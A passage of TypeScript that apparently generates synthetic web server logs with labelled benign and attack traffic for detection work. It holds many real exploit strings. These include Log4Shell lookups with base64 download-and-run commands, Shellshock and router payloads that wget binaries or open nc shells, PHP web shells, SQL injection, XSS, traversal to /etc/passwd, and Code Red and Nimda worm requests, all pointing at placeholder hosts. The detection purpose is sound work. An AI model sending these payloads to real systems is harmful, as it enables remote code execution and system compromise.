              : `${w.pick(['social', 'mastodon', 'toot', 'mstdn', 'masto'])}.${chars(w, w.int(4, 9), 'abcdefghijklmnopqrstuvwxyz')}.${w.pick(['org', 'net', 'social', 'de', 'uk', 'xyz'])}`;
          const agent = `http.rb/5.1.1 (Mastodon/4.${w.int(1, 2)}.${w.int(0, 12)}; +https://${name}/)`;
          const t = at + Math.floor(w.rand() * w.rand() * w.int(1, 6) * minute);
          const list = [req(t, 'GET', page, 200, w.int(20000, 80000), '-', agent)];
          if (w.rand() < 0.7) list.push(req(t + w.int(100, 3000), 'GET', og, 200, w.int(40000, 300000), '-', agent));
          byAddress.set(w.address(w.rand() < 0.35), list);
        }
      }
    }
    for (const [address, list] of [...byAddress, ...phones]) w.add('preview', inOrder(list), { address, family: 'link-previews' });
  },
};

const ownInfra: Family = {
  name: 'own-infra',
  attack: false,
  description:
    "the site's own machines: load-balancer health checks every 5-30 s, Prometheus scraping /metrics every 15 s, and a cache warmer crawling the sitemap at many requests a second after each deploy",
  add(w, size) {
    const net = w.net();
    const probe = w.pick([
      ['ELB-HealthChecker/2.0', '/health'],
      ['kube-probe/1.29', '/healthz'],
      ['GoogleHC/1.0', '/'],
      ['-', '/haproxy-check'],
    ] as const);
    const every = w.pick([5, 10, 10, 15, 30]) * second;
    for (let n = w.int(2, 3); n > 0; n--)
      w.add(
        'self',
        w.periodic(w.start + w.int(0, every), every, 200, () => ({
          method: 'GET',
          target: probe[1],
          status: 200,
          bytes: w.int(2, 60),
          referer: '-',
          agent: probe[0],
        })),
        { net, family: 'own-infra' },
      );
    const prometheus = `Prometheus/2.${w.int(45, 50)}.1`;
    for (let n = w.int(1, 2); n > 0; n--)
      w.add(
        'self',
        w.periodic(w.start + w.int(0, 15_000), 15_000, 150, () => ({
          method: 'GET',
          target: '/metrics',
          status: 200,
          bytes: w.int(40000, 90000),
          referer: '-',
          agent: prometheus,
        })),
        { net, family: 'own-infra' },
      );
    // After each deploy, a warmer requests every URL of the sitemap as fast as the site answers.
    const agent = w.pick(['Mozilla/5.0 (compatible; cache-warmer/1.0)', 'Wget/1.21.3', 'curl/7.88.1', 'Go-http-client/1.1']);
    const deploys = Array.from({ length: w.int(1, 4) }, () => awake(w, 9, 18)).sort((a, b) => a - b);
    const warm = function* (): Generator<Request> {
      let t = 0;
      for (const d of deploys) {
        t = Math.max(t, d);
        yield req(t, 'GET', '/sitemap.xml', 200, w.int(40000, 200000), '-', agent);
        for (const part of ['/sitemap-posts.xml', '/sitemap-products.xml', '/sitemap-pages.xml'])
          yield req((t += w.int(50, 300)), 'GET', part, 200, w.int(20000, 90000), '-', agent);
        const perSecond = w.int(3, 25);
        for (let k = Math.round(w.int(300, 1500) * Math.max(0.3, size)); k > 0 && t < end(w); k--) {
          const r = w.rand();
          const target =
            r < 0.6 ? `/blog/post-${w.int(1, 400)}` : r < 0.95 ? `/products/${w.int(1, 250)}` : w.pick(['/', '/about', '/contact', '/rooms', '/prices']);
          yield req((t += Math.round((1000 / perSecond) * (0.3 + 1.4 * w.rand()))), 'GET', target, w.rand() < 0.01 ? 404 : 200, w.int(4000, 60000), '-', agent);
        }
      }
    };
    w.add('self', warm(), { net, family: 'own-infra' });
  },
};

// ---------------------------------------------------------------------------------------------------------
// Attacks: exploit strings in headers, single-shot exploits, worms.

/** A host of the documentation ranges, as an attacker's payload server. */
const lure = (w: World): string => `${w.pick(['192.0.2', '198.51.100', '203.0.113'])}.${w.int(1, 254)}`;

/** A Log4Shell lookup, plain or obfuscated as scanners and botnets sent them. */
function jndi(w: World): string {
  const host = w.rand() < 0.75 ? `${lure(w)}:${w.pick([1389, 1389, 389, 1099, 12344, 53])}` : `${hex(w, 20)}.dnslog.example`;
  const cmd = `(curl -s ${lure(w)}:5874/${hex(w, 8)}||wget -q -O- ${lure(w)}:5874/${hex(w, 8)})|bash`;
  return w.pick([
    `\${jndi:ldap://${host}/a}`,
    `\${jndi:ldap://${host}/Basic/Command/Base64/${Buffer.from(cmd).toString('base64')}}`,
    `\${jndi:ldap://${host}/TomcatBypass/Command/Base64/${Buffer.from(cmd).toString('base64')}}`,
    `\${jndi:dns://${host}/${hex(w, 6)}}`,
    `\${jndi:rmi://${host}/Exploit}`,
    `\${\${lower:j}ndi:\${lower:l}\${lower:d}a\${lower:p}://${host}/a}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${host}/${hex(w, 8)}}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-r}\${::-m}\${::-i}://${host}/poc}`,
    `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${host}/x}`,
    `\${jndi:\${lower:l}\${lower:d}\${lower:a}\${lower:p}://${host}/o}`,
    `\${\${upper:j}ndi:ldap://${host}/${hex(w, 6)}}`,
    `\${j\${k8s:k5:-ND}i\${sd:k5:-:}ldap://${host}/x}`,
    `\${jndi:ldap://\${hostName}.${hex(w, 12)}.dnslog.example/a}`,
    `\${\${env:BARFOO:-j}ndi\${env:BARFOO:-:}\${env:BARFOO:-l}dap\${env:BARFOO:-:}//${host}/a}`,
  ]);
}

/** Shellshock, as written to the log (a quote escaped with a backslash, as Apache writes it). */
function shellshock(w: World): string {
  const host = lure(w);
  return w.pick([
    `() { :; }; /bin/bash -c \\"wget http://${host}/bins/x86 -O /tmp/x86; chmod +x /tmp/x86; /tmp/x86\\"`,
    `() { :;}; echo; echo; /bin/bash -c 'cat /etc/passwd'`,
    `() { ignored; }; echo Content-Type: text/plain ; echo  ; echo ; /usr/bin/id`,
    `() { :; }; echo ; /bin/bash -c 'expr 299663299665 / 3; echo 333:; uname -a; echo 333:; id;'`,
    `() { :; }; /bin/bash -c \\"curl -fsSL http://${host}/sh | sh\\"`,
    `() { :;}; /bin/bash -c \\"nc ${host} 4444 -e /bin/sh\\"`,
  ]);
}

/** Other things put in a header: SQL, PHP for log poisoning, a blind-XSS probe for whoever reads the logs. */
function headerPayload(w: World): string {
  const host = lure(w);
  return w.pick([
    `Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -`,
    `'||(SELECT pg_sleep(6))||'`,
    `<?php system($_GET['c']); ?>`,
    `<?=\`$_GET[x]\`?>`,
    `\\"><script src=//${host}/x.js></script>`,
    `<script>alert(document.domain)</script>`,
    `{{7*'7'}}\${7*7}<%= 7*7 %>`,
  ]);
}

const ORDINARY = ['/', '/', '/index.php', '/login', '/api/v1/status', '/favicon.ico', '/about', '/search?q=rooms', '/contact', '/blog/post-12'];

const headerExploits: Family = {
  name: 'header-exploits',
  attack: true,
  description:
    'clients sending exploit strings in the User-Agent or Referer (Log4Shell JNDI lookups plain and obfuscated, Shellshock, SQL, PHP, blind XSS), 1 to 4 requests each, to ordinary paths',
  add(w, size) {
    // A campaign comes in waves: many clients within the same hour or two, a trickle the rest of the day.
    const wave = w.start + w.int(0, 21) * hour;
    const error = errorPages(w);
    for (let i = 0, n = Math.max(5, Math.round(w.int(10, 60) * size)); i < n; i++) {
      const kind = w.rand();
      const payload = () => (kind < 0.6 ? jndi(w) : kind < 0.85 ? shellshock(w) : headerPayload(w));
      const plain = w.pick([...BROWSERS, 'Mozilla/5.0 zgrab/0.x', 'curl/7.68.0', 'python-requests/2.28.1', 'Go-http-client/1.1']);
      const where = w.rand();
      let t = w.rand() < 0.6 ? wave + Math.floor(w.rand() * 2 * hour) : w.start + Math.floor(w.rand() * (DAY - hour));
      const list: Request[] = [];
      for (let k = w.int(1, 4); k > 0; k--) {
        const p = payload();
        // In the agent, the referer, or both (the odd one in the query string too).
        const agent = where < 0.7 ? p : plain;
        const referer = where >= 0.55 ? p : '-';
        const target = w.rand() < 0.12 && p.startsWith('$') ? `/?x=${encodeURIComponent(p)}` : w.pick(ORDINARY);
        const status = target === '/favicon.ico' ? w.pick([200, 404]) : w.rand() < 0.9 ? 200 : w.pick([400, 403]);
        const method = w.rand() < 0.15 ? 'HEAD' : 'GET';
        list.push(req(t, method, target, status, method === 'HEAD' ? 0 : status === 200 ? w.int(2000, 40000) : error(status, target), referer, agent));
        t += w.int(1, 30) * second;
      }
      w.add('exploit', inOrder(list), { v6: w.rand() < 0.1, family: 'header-exploits' });
    }
  },
};

/** Exploits sent once or twice by a client that sends nothing else: [method, target, how the site answers]. */
const SINGLE_SHOTS: ReadonlyArray<(w: World) => [string, string, number[]]> = [
  () => ['POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh', [400, 404, 403]],
  () => ['GET', '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', [400, 404]],
  () => ['GET', '/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd', [400]],
  () => ['POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', [404]],
  (w) => [
    w.pick(['GET', 'POST']),
    w.pick(['/lib', '/laravel', '/www', '/api', '/panel', '/yii', '/zend']) + '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    [404],
  ],
  (w) => [
    'GET',
    `/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=${w.pick(['HelloThinkPHP21', 'Hello'])}`,
    [200, 404],
  ],
  (w) => [
    'GET',
    `/?s=/index/\\x5Cthink\\x5CContainer/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://${lure(w)}/t.sh%20-O%20/tmp/t;sh%20/tmp/t`,
    [200, 404],
  ],
  (w) => ['GET', `/boaform/admin/formLogin?username=${w.pick(['admin', 'user', 'adminisp'])}&psd=${w.pick(['admin', 'user', 'adminisp'])}`, [404]],
  () => ['POST', '/boaform/admin/formLogin', [404]],
  (w) => ['GET', `/${w.pick(['download', 'static', 'images', 'assets'])}/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd`, [400, 404]],
  () => ['GET', '/../../../../../../../../etc/passwd', [400]],
  (w) => [
    'GET',
    `/index.php?page=${w.pick(['../../../../../../etc/passwd', '../../../../../../etc/passwd%00', 'php://filter/convert.base64-encode/resource=../config'])}`,
    [200, 404],
  ],
  (w) => [
    'GET',
    `/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22${w.pick(['id', 'whoami', 'cat%20/etc/passwd'])}%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/`,
    [404, 400],
  ],
  () => ['GET', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', [404]],
  () => ['GET', '/vpn/../vpns/cfg/smb.conf', [400, 404]],
  () => ['GET', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', [404]],
  () => ['POST', '/mgmt/tm/util/bash', [404]],
  () => ['GET', '/autodiscover/autodiscover.json?@zdi/Powershell', [404]],
  (w) => ['GET', `/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;wget%20http://${lure(w)}/tp.sh;sh%20tp.sh)`, [404]],
  () => ['POST', '/_ignition/execute-solution', [404, 405]],
  () => ['GET', '/console/css/%252e%252e%252fconsole.portal', [404]],
  () => ['POST', '/api/jsonws/invoke', [404]],
  () => ['POST', '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', [404]],
  (w) => ['POST', '/actuator/gateway/routes/' + w.pick(['hacktest', 'pwned', 'ceshi']), [404]],
  (w) => [
    'GET',
    `/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5(%22${w.pick(['hi', 'ok'])}%22));?>+/tmp/index${w.int(1, 9)}.php`,
    [200, 404],
  ],
  () => ['GET', '/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>', [200]],
  (w) => ['POST', `/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F${lure(w)}%2Ftbk.sh%3Bsh%20tbk.sh`, [404]],
  (w) => ['GET', `/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F${lure(w)}%2Fzero;sh%20zero;%22`, [404]],
  (w) => [
    'GET',
    `/language/Swedish\${IFS}&&cd\${IFS}/tmp;rm\${IFS}-rf\${IFS}*;wget\${IFS}http://${lure(w)}/mips;sh\${IFS}/tmp/mips&>r&&tar\${IFS}/string.js`,
    [404],
  ],
  () => ['POST', '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', [404, 200]],
  () => ['GET', '/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id', [200, 404]],
  () => ['POST', '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', [404]],
  () => ['POST', '/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', [404]],
  () => [
    'GET',
    '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    [404],
  ],
  () => ['POST', '/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20-s%20x.example', [404, 400]],
  () => ['GET', '/?XDEBUG_SESSION_START=phpstorm', [200]],
  () => ['POST', '/wp-admin/admin-ajax.php?action=revslider_ajax_action&client_action=update_plugin', [400, 200]],
  () => ['GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php', [400, 200]],
  () => ['POST', '/solr/admin/cores?action=CREATE&name=x&configSet=../../../../../../../../../tmp', [404]],
  () => ['POST', '/cgi-bin/ViewLog.asp', [404]],
  () => ['GET', '/login.cgi?cli=aa%20aa%27;wget%20http://x.example/d%20-O%20-%3E%20/tmp/hk;sh%20/tmp/hk%27$', [404]],
  () => ['GET', '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x7e,version()),1)', [200, 500]],
  () => ['GET', '/api/index.php/v1/config/application?public=true', [404, 200]],
  () => ['GET', '/public/index.php?s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id', [404, 200]],
  () => ['POST', '/goform/set_LimitClient_cfg', [404]],
  () => ['GET', '/cgi-bin/supervisor/CloudSetup.cgi?exefile=cd%20/tmp;wget%20http://x.example/w.sh', [404]],
  () => ['POST', '/rest/tinymce/1/macro/preview', [404]],
  () => ['POST', '/Telerik.Web.UI.WebResource.axd?type=rau', [404]],
  () => ['GET', '/webtools/control/main?USERNAME=&PASSWORD=&requirePasswordChange=Y', [404]],
];

/** Agents of clients that send an exploit and leave: tools, botnets, forged browsers. */
const SHOT_AGENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'python-requests/2.25.1',
  'Go-http-client/1.1',
  'Hello, World',
  'Mozila/5.0',
  'curl/7.68.0',
  'libwww-perl/6.05',
  '-',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0',
  'Custom-AsyncHttpClient',
  'Mozilla/5.0 (Knoppix; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/53.0.2785.116 Safari/537.36',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
];

const singleShot: Family = {
  name: 'single-shot',
  attack: true,
  description:
    'clients that send one or two unmistakable exploit requests (path traversal, RCE in CMS, router and VPN firmware, PHP-CGI, OGNL) and nothing else',
  add(w, size) {
    const error = errorPages(w);
    for (let i = 0, n = Math.max(8, Math.round(w.int(20, 120) * size)); i < n; i++) {
      const agent = w.pick(SHOT_AGENTS);
      let t = w.start + Math.floor(w.rand() * (DAY - minute));
      const list: Request[] = [];
      const first = w.pick(SINGLE_SHOTS)(w);
      // Once; or twice: the same again (a retry, the other method), or a second exploit.
      const shots = w.rand() < 0.6 ? [first] : [first, w.rand() < 0.5 ? first : w.pick(SINGLE_SHOTS)(w)];
      for (const [method, target, statuses] of shots) {
        const status = w.pick(statuses);
        list.push(req(t, method, target, status, status === 200 ? w.int(2000, 30000) : error(status, target), '-', agent));
        t += w.int(0, 20) * second + w.int(0, 999);
      }
      w.add('exploit', inOrder(list), { v6: w.rand() < 0.05, family: 'single-shot' });
    }
  },
};

const CODE_RED = `/default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a`;
const NIMDA = [
  '/scripts/root.exe?/c+dir',
  '/MSADC/root.exe?/c+dir',
  '/c/winnt/system32/cmd.exe?/c+dir',
  '/d/winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%5c../winnt/system32/cmd.exe?/c+dir',
  '/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
  '/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
  '/msadc/..%5c../..%5c../..%5c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%252f../winnt/system32/cmd.exe?/c+dir',
];

/** What an infected host sends, again and again: [method, targets in order, agent]. */
const WORMS: ReadonlyArray<(w: World) => [string, string[], string]> = [
  () => ['GET', [CODE_RED], '-'],
  () => ['GET', [CODE_RED.replace(/N/g, 'X')], '-'],
  () => ['GET', NIMDA, '-'],
  (w) => ['GET', [`/shell?cd+/tmp;rm+-rf+*;wget+http://${lure(w)}:${w.int(30000, 60000)}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws`], 'Hello, world'],
  (w) => ['GET', [`/shell?cd+/tmp;rm+-rf+*;wget+${lure(w)}/jaws;sh+/tmp/jaws`], 'Hello, world'],
  () => ['POST', ['/GponForm/diag_Form?images/'], 'Hello, World'],
  () => ['POST', ['/GponForm/diag_Form?style/'], 'Hello, World'],
  () => ['POST', ['/ctrlt/DeviceUpgrade_1'], 'Hello, World'],
  (w) => [
    'GET',
    [
      `/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://${lure(w)}:${w.int(30000, 60000)}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1`,
    ],
    'Hello, world',
  ],
  () => ['POST', ['/tmUnblock.cgi'], '-'],
  () => ['POST', ['/HNAP1/'], 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36'],
  (w) => ['GET', [`/cgi-bin/;cd\${IFS}/var/tmp;rm\${IFS}-rf\${IFS}*;\${IFS}wget\${IFS}http://${lure(w)}/mips;\${IFS}sh\${IFS}/var/tmp/mips`], 'Hello, World'],
  (w) => [
    'POST',
    [
      `/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F${lure(w)}%2Fbot.arm7%3Bchmod%20777%20bot.arm7%3B.%2Fbot.arm7%20tbk`,
    ],
    'Mozila/5.0',
  ],
  (w) => [
    'GET',
    [
      `/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=cd%20/tmp;wget%20http://${lure(w)}/t;sh%20t`,
    ],
    'Mozilla/5.0',
  ],
];

const worm: Family = {
  name: 'worm',
  attack: true,
  description:
    'worm and botnet hosts repeating one exploit (Code Red, the Nimda sequence, Mirai-like /shell?cd+/tmp, GPON, Huawei, Netgear) 5-40 times, in a tight loop or over hours',
  add(w, size) {
    const error = errorPages(w);
    for (let i = 0, n = Math.max(4, Math.round(w.int(5, 30) * size)); i < n; i++) {
      const [method, targets, agent] = w.pick(WORMS)(w);
      const times = w.int(5, 40);
      // Some loop within seconds; others come back every few minutes or hours as they sweep their range.
      const gap = w.pick([() => w.int(200, 5000), () => w.int(2, 40) * second, () => w.int(2, 60) * minute]);
      let t = w.start + Math.floor(w.rand() * (DAY * 0.8));
      const list: Request[] = [];
      for (let k = 0; k < Math.max(times, targets.length) && t < end(w); k++) {
        const target = targets[k % targets.length]!;
        const status = target.includes('%%') ? 400 : w.rand() < 0.95 ? 404 : 400;
        list.push(req(t, method, target, status, error(status, target), '-', agent));
        t += targets.length > 1 ? w.int(100, 1500) : gap();
      }
      w.add('exploit', inOrder(list), { family: 'worm' });
    }
  },
};

// ---------------------------------------------------------------------------------------------------------
// Attacks: a scanner alone on a server, floods that look like browsers, exploits hidden in browsing.

const PLUGINS = [
  'contact-form-7',
  'akismet',
  'woocommerce',
  'elementor',
  'wordpress-seo',
  'jetpack',
  'wpforms-lite',
  'really-simple-ssl',
  'classic-editor',
  'litespeed-cache',
  'updraftplus',
  'wp-file-manager',
  'revslider',
  'duplicator',
  'all-in-one-seo-pack',
  'wordfence',
  'google-site-kit',
  'redirection',
  'wp-super-cache',
  'tinymce-advanced',
];
const DIR_WORDS = [
  'admin',
  'backup',
  'backups',
  'old',
  'new',
  'test',
  'dev',
  'staging',
  'api',
  'uploads',
  'files',
  'private',
  'tmp',
  'logs',
  'db',
  'data',
  'config',
  'includes',
  'install',
  'login',
  'panel',
  'portal',
  'secret',
  'site',
  'web',
  'www',
  'src',
  'dist',
  'vendor',
  'node_modules',
  'assets',
  'images',
  'cgi-bin',
  'server-status',
  'phpinfo',
  'info',
  'shell',
  'console',
  'dashboard',
  'manager',
  'user',
  'users',
  'account',
  'archive',
  'export',
  'dump',
  'sql',
  'database',
  'bak',
  'release',
  'v1',
  'v2',
  'internal',
  'debug',
  'monitor',
  'stats',
  'status',
  'wp',
  'blog',
  'cms',
  'shop',
  'store',
];
const DIR_EXT = ['', '', '/', '.php', '.bak', '.zip', '.tar.gz', '.old', '.txt', '.sql', '.inc', '.asp', '.aspx', '.jsp', '~', '.swp'];
const NIKTO_FILES = [
  '/phpinfo.php',
  '/test.php',
  '/info.php',
  '/admin.php',
  '/.htaccess',
  '/.htpasswd',
  '/icons/README',
  '/manual/',
  '/server-info',
  '/server-status',
  '/cgi-bin/test-cgi',
  '/cgi-bin/printenv',
  '/cgi-bin/php',
  '/scripts/samples/',
  '/servlet/SnoopServlet',
  '/iisadmin/',
  '/_vti_bin/shtml.dll',
  '/examples/jsp/snp/snoop.jsp',
  '/CHANGELOG.txt',
  '/README.md',
  '/web.config',
  '/crossdomain.xml',
  '/clientaccesspolicy.xml',
  '/.git/HEAD',
  '/.DS_Store',
  '/WEB-INF/web.xml',
  '/phpmyadmin/',
  '/admin/login.php',
  '/login.jsp',
  '/awstats/awstats.pl',
  '/webalizer/',
  '/tiki-index.php',
  '/wp-config.php',
  '/config.inc.php',
  '/install.php',
  '/setup.php',
];
const NIKTO_ATTACKS = [
  '/?-s',
  '/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000',
  '/index.php?=PHPE9568F36-D428-11d2-A769-00AA001ACF42',
  '/<script>alert(document.cookie)</script>',
  '/cgi-bin/test-cgi?*',
  '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/..%c0%af..%c0%af..%c0%afetc/passwd',
  '/index.php?file=http://cirt.net/rfiinc.txt?',
  "/search.php?q='%20or%201=1--",
  '/cgi-bin/view-source?../../../../../../../etc/passwd',
  '/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir',
  '/?mod=<script>alert(document.cookie)</script>&op=browse',
];
const ACUNETIX = [
  "/search?q=1'%22()%26%25<acx><ScRiPt%20>QaF1(9371)</ScRiPt>",
  '/products/NUM?id=1%27||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),15)||%27',
  '/download?file=../../../../../../../../../../windows/win.ini',
  '/download?file=..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/search?q=${9999281%2B9999986}',
  '/contact?url=http://hitHEX.bxss.me/',
  '/search?q=response.write(9146484*9567263)',
  "/search?q=';print(md5(acunetix_wvs_security_test));$a='",
  '/products/NUM?id=-1%20OR%202%2B380-380-1=0%2B0%2B0%2B1%20--',
  "/products/NUM?id=(select(0)from(select(sleep(15)))v)/*'%2B(select(0)from(select(sleep(15)))v)%2B'%22%2B(select(0)from(select(sleep(15)))v)%2B%22*/",
  '/acunetix-wvs-test-for-some-inexistent-file',
  '/blog/post-NUM?page=1%20waitfor%20delay%20%270:0:15%27%20--',
  '/search?q=<img%20src=xyz%20OnErRor=alert(9371)>',
  '/index.php?page=Http://bxss.me/t/fit.txt',
  '/rooms?date=1%7Cecho%20HEX%7C%7Ca%20%23%27%20%7Cecho%20HEX%7C%7Ca%20%23%7C%22%20%7Cecho%20HEX%7C%7Ca%20%23',
];
const ZAP = [
  '/search?q=0W45pz4p',
  '/search?q=%3Cscrip%3E0W45pz4p%3C%2Fscrip%3E',
  '/search?q=javascript%3Aalert%281%29%3B',
  '/search?q=%22%3E%3CscrIpt%3Ealert%281%29%3B%3C%2FscRipt%3E',
  '/download?file=..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd',
  '/products/NUM?id=NUM+AND+1%3D1+--+',
  '/products/NUM?id=NUM%27+AND+%271%27%3D%271%27+--+',
  '/products/NUM?id=NUM+UNION+ALL+select+NULL+--+',
  '/contact?email=%3Bcat+%2Fetc%2Fpasswd%3B',
  '/search?q=%24%7B%40print%28md5%28zap%29%29%7D',
  '/search?q=http%3A%2F%2Fwww.google.com%2F',
  '/WEB-INF/web.xml',
  '/latest/meta-data/',
  '/rooms?date=%7B%7B7*7%7D%7D',
];
const SQLMAP = [
  '',
  '%20AND%20NUM%3DNUM',
  '%20AND%20NUM%3DNUN',
  '%27%20AND%20%27abc%27%3D%27abc',
  '%29%20AND%20SLEEP%285%29%20AND%20%28NUM%3DNUM',
  '%20AND%20SLEEP%285%29',
  '%20ORDER%20BY%20NUM--%20-',
  '%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7178627671%2C0x' + 'HEX' + '%2C0x716a6a7071%29--%20-',
  '%22%29%29%20AND%20NUM%3DNUM%20AND%20%28%28%22abc%22%3D%22abc',
  '%20AND%20EXTRACTVALUE%28NUM%2CCONCAT%280x5c%2C0x7178627671%2C%28SELECT%20%28ELT%28NUM%3DNUM%2C1%29%29%29%2C0x716a6a7071%29%29',
  '%3B%20SELECT%20PG_SLEEP%285%29--',
  '%20AND%20%28SELECT%202%2A%28IF%28%28SELECT%20%2A%20FROM%20%28SELECT%20CONCAT%280x71%2C%28SELECT%20%28ELT%28NUM%3DNUM%2C1%29%29%29%29%29s%29%2C%208446744073709551610%2C%208446744073709551610%29%29%29',
];

const loneScanner: Family = {
  name: 'lone-scanner',
  attack: true,
  alone: true,
  description:
    'a vulnerability scanner as the only client of the server (Nikto, Acunetix, ZAP or a plain browser agent, sqlmap, WPScan, a directory brute-forcer): thousands of requests, mostly 404, with payloads',
  add(w) {
    const kind = w.pick(['nikto', 'acunetix', 'zap', 'sqlmap', 'wpscan', 'dirbuster'] as const);
    // Alone on the server, the scan is the whole log: as long as the scanner runs, whatever the size.
    const count = w.int(2000, 12000);
    const perSecond = { nikto: w.int(5, 40), acunetix: w.int(5, 30), zap: w.int(5, 30), sqlmap: w.int(1, 12), wpscan: w.int(5, 30), dirbuster: w.int(20, 150) }[
      kind
    ];
    const agent = {
      nikto: '',
      acunetix: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.77 Safari/537.36',
      zap: w.pick(['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0', BROWSERS[0]!]),
      sqlmap:
        w.rand() < 0.6
          ? `sqlmap/1.${w.int(6, 8)}.${w.int(1, 12)}#stable (https://sqlmap.org)`
          : 'Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.1.6) Gecko/20091201 Firefox/3.5.6',
      wpscan: `WPScan v3.8.${w.int(22, 25)} (https://wpscan.com/wordpress-security-scanner)`,
      dirbuster: w.pick([
        'gobuster/3.6',
        'feroxbuster/2.10.1',
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36',
      ]),
    }[kind];
    const fill = (s: string) =>
      s
        .replace(/NUM/g, () => String(w.int(1, 250)))
        .replace(/NUN/g, () => String(w.int(251, 9999)))
        .replace(/HEX/g, () => hex(w, 8));
